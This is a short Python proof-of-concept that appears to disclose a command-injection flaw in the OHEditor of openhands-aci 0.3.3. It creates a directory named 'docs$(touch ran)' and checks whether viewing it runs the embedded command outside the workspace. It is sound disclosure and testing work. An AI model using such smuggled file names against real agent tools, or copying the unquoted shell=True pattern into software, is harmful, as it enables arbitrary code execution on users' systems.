"""openhands-aci 0.3.3 OHEditor: viewing a directory runs its name as shell code.

view of a directory builds `find -L {path} -mindepth 1 ...` with the path pasted into a
shell command line unquoted (editor.py, run_shell_cmd with shell=True). A directory whose
name holds "$(...)" (a name a repository, an archive or another agent can create) runs
that command when the directory is viewed. Here the name (a file name cannot hold "/")
creates a file in the process's working directory, outside the workspace. Exit 1: the
command ran; exit 0: it did not.
"""

import importlib.metadata
import os
import sys
import tempfile
from pathlib import Path

from openhands_aci.editor import OHEditor

print("openhands-aci", importlib.metadata.version("openhands-aci"))
base = Path(tempfile.mkdtemp())
root, outside = base / "ws", base / "outside"
root.mkdir()
outside.mkdir()
marker = outside / "ran"
os.chdir(outside)  # the agent's process runs elsewhere than the workspace
hostile = root / "docs$(touch ran)"
hostile.mkdir()
(hostile / "README.md").write_text("hello\n")
answer = OHEditor(workspace_root=str(root))(command="view", path=str(hostile))
print("view answered:", (answer.output or answer.error or "")[:120].replace("\n", " | "))
print(f"{marker} exists after the view:", marker.exists())
sys.exit(1 if marker.exists() else 0)
